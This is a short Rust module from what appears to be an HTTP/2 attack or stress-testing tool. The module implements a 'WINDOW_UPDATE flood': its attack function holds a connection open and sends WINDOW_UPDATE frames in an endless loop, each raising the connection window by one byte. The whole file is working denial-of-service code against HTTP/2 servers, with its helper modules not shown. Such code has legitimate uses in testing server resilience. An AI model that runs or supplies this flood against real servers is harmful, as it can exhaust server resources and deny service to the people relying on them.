//! `WINDOW_UPDATE` flood: the window of the connection is enlarged by one byte at a time.

use super::frames;
use super::ground::Ground;
use super::http2::{BATCH, on_connection};

pub(super) async fn attack(ground: &Ground<'_>) {
    on_connection(ground, &[], async |connection| {
        loop {
            let count = connection.leave(BATCH).await?;
            for _ in 0..count {
                frames::put_window_update(&mut connection.output, 0, 1);
            }
            connection.send(count).await?;
        }
    })
    .await;
}
